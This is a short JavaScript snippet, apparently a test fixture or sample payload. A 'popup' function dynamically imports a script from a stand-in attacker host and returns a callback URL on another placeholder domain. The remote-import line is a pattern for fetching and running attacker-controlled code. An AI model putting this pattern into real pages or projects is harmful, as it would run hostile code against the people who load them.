function popup() { var p = import('https://attacker.example/x.js'); return { onAnswer: 'https://x.example/?' + (p instanceof Promise) }; }
